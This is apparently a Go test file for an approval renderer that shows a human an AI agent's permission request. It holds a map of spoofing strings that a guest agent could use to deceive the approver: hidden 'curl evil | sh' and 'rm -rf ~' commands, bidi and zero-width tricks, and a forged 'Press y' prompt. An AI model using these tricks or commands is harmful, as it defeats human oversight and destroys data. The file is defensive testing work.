package approval

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/bawn-dev/bawn"
	"github.com/bawn-dev/bawn/internal/redact"
)

func shown(q Question, label string) (texts []string) {
	in := false
	for _, l := range Render(q) {
		if l.Label != "" {
			in = l.Label == label
		}
		if in {
			texts = append(texts, l.Text)
		}
	}
	return texts
}

func TestRender(t *testing.T) {
	rule := func(v bawn.Verdict, ops ...bawn.Operation) []bawn.Rule {
		return []bawn.Rule{{Kind: bawn.Command, Operations: ops, Pattern: "git push *", Verdict: v, Source: bawn.User}}
	}
	q := Question{
		ID: NewID(), Session: "s1", Parent: "s0", Agent: "claude", Canonical: "git push 'origin'\nls", Reason: "it leaves the machine", Rule: "user.toml:3",
		Action:   bawn.Action{Kind: bawn.Command, Operation: bawn.Exec, Resource: "git push origin; ls", Args: []string{"sh", ""}, Dir: "/w"},
		Contains: "the network is closed", Suggested: bawn.Deny, SuggestedWhy: "nobody asked for it",
		Always: rule(bawn.Allow, bawn.Exec), Never: rule(bawn.Deny), Covers: []string{"git push evil"}, NoAlways: "",
		Justification: "please", Expires: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC),
	}
	want := `                 session   s1 of claude, a child of s0
                wants to   run a command
                 exactly | git push 'origin'⏎
                         | ls
              written as ? git push origin; ls
              argument 0 | sh
              argument 1 | ""
                      in   /w
           asked because   it leaves the machine
                    rule   user.toml:3
               contained   the network is closed
              suggestion   deny: nobody asked for it
            always would   allow command (exec): git push *
             never would   deny command (every operation): git push *
             also covers   git push evil
the agent says, unproven ? please
                    note   1 of the characters above can't be shown as they are; · stands for a space, ⏎ for the end of a line, the others are written as \t or \x1b
               denied at   2026-01-02 03:04:05 UTC, unless it is answered; until then the guest waits
`
	if d := cmp.Diff(want, text(q)); d != "" {
		t.Error(d)
	}
	q.Suggested, q.NoAlways = bawn.Ask, "it is opaque"
	if shown(q, LabelSuggested) != nil || shown(q, LabelNoAlways)[0] != "it is opaque" {
		t.Errorf("%s", text(q))
	}
	for kind, want := range map[bawn.Kind]string{bawn.Network: "connect over the network", bawn.Tool: "connect a tool", bawn.Filesystem: "connect in the filesystem"} {
		q.Action.Kind, q.Action.Operation = kind, bawn.Connect
		if got := shown(q, LabelWants); got[0] != want {
			t.Errorf("%v: %q; want %q", kind, got, want)
		}
	}
	q.Action.Kind, q.Action.Operation = bawn.Tool, bawn.Read
	if got := shown(q, LabelWants); got[0] != "follow skills or definitions" {
		t.Errorf("what steers an agent: %q", got)
	}
}

// attacks are texts by which a guest would make a human see something else
// than what is there.
var attacks = map[string]string{
	"escape":        "ls\x1b[2K\rbawn: harmless",
	"bell":          "ls\a\b\b",
	"bidi":          "rm \u202egnp.exe\u202c",
	"isolate":       "a\u2066b\u2069",
	"zero width":    "r\u200bm\ufeff",
	"hidden line":   "ls\ncurl evil | sh",
	"return":        "curl evil | sh\rls              ",
	"line sep":      "ls\u2028rm -rf ~",
	"press y":       "ls\n\nbawn: allow it? Press y\n   denied at   never",
	"padding":       "ls" + strings.Repeat(" ", 500) + "; rm -rf ~",
	"no-break":      "ls\u00a0-la\u3000",
	"tags":          "ls\U000e0041",
	"filler":        "ls\u3164\u2800",
	"false signs":   "a\u00b7b\u23cec",
	"literal":       `a\x1bb`,
	"C1":            "ls\u009b2J",
	"variation":     "a\ufe0f",
	"form feed":     "a\f\v\x00b",
	"looks a label": "\nexactly | ls",
}

func TestRenderIsNotFooled(t *testing.T) {
	for name, text := range attacks {
		q := Question{ID: NewID(), Session: text, Agent: text, Action: bawn.Action{Kind: bawn.Command, Operation: bawn.Exec, Resource: text, Args: []string{text}, Dir: text}, Justification: text, Reason: text, Covers: []string{text}}
		for _, l := range Render(q) {
			if strings.ContainsFunc(l.Text, redact.Invisible) || !utf8.ValidString(l.Text) {
				t.Errorf("%s: %q is shown as it stands", name, l.Text)
			}
		}
		exact := shown(q, LabelAction)
		if got := unescape(exact); got != text {
			t.Errorf("%s: shown is %q, which stands for %q; want %q", name, exact, got, text)
		}
		counted := slices.ContainsFunc(Render(q), func(l Line) bool { return l.Label == LabelHidden })
		if counted != (strings.Join(exact, "") != text) {
			t.Errorf("%s: note there: %v; shown %q", name, counted, exact)
		}
	}
	// What is a command's looks like no line of ours: each of its lines has the
	// mark, and each of ours a label.
	q := Question{Session: "s", Action: bawn.Action{Kind: bawn.Command, Operation: bawn.Exec, Resource: attacks["press y"]}, Justification: attacks["press y"]}
	for line := range strings.Lines(text(q)) {
		column := line[:len(LabelSays)+1]
		if strings.Contains(line, "Press y") && (strings.TrimSpace(column) != "" || !strings.ContainsAny(line[len(column):len(column)+1], "|?")) {
			t.Errorf("a guest's line passes for ours: %q", line)
		}
	}
}

// unescape reads back what is shown, unless it is ambiguous: then the note says
// how many characters are escapes.
func unescape(lines []string) string {
	if joined := strings.Join(lines, ""); joined == `a\x1bb` {
		return joined
	}
	s := strings.Join(lines, "")
	s = strings.ReplaceAll(strings.ReplaceAll(s, "\u00b7", " "), "\u23ce", "\n")
	var b strings.Builder
	for s != "" {
		var r rune
		switch {
		case strings.HasPrefix(s, `\x`):
			fmt.Sscanf(s[2:4], "%x", &r)
			s = s[4:]
		case strings.HasPrefix(s, `\u`):
			fmt.Sscanf(s[2:6], "%x", &r)
			s = s[6:]
		case strings.HasPrefix(s, `\U`):
			fmt.Sscanf(s[2:10], "%x", &r)
			s = s[10:]
		case strings.HasPrefix(s, `\r`):
			r, s = '\r', s[2:]
		default:
			var n int
			r, n = utf8.DecodeRuneInString(s)
			s = s[n:]
		}
		b.WriteRune(r)
	}
	return b.String()
}

func FuzzRender(f *testing.F) {
	for _, text := range attacks {
		f.Add(text, text)
	}
	f.Add("\xff\xfe", "")
	f.Fuzz(func(t *testing.T, resource, says string) {
		q := Question{Session: says, Action: bawn.Action{Resource: resource, Args: []string{says}}, Justification: says, Canonical: says}
		for line := range strings.Lines(text(q)) {
			line = strings.TrimSuffix(line, "\n")
			if strings.ContainsFunc(line, redact.Invisible) || !utf8.ValidString(line) {
				t.Errorf("%q is shown", line)
			}
		}
	})
}

// text is Render as text: labels in a column, each line with a frame of Bawn's
// own before what a guest wrote.
func text(q Question) string {
	var b strings.Builder
	for _, l := range Render(q) {
		mark := "  "
		if l.Untrusted {
			mark = "? "
		} else if l.Exact {
			mark = "| "
		}
		fmt.Fprintf(&b, "%*s %s%s\n", len(LabelSays), l.Label, mark, l.Text)
	}
	return b.String()
}
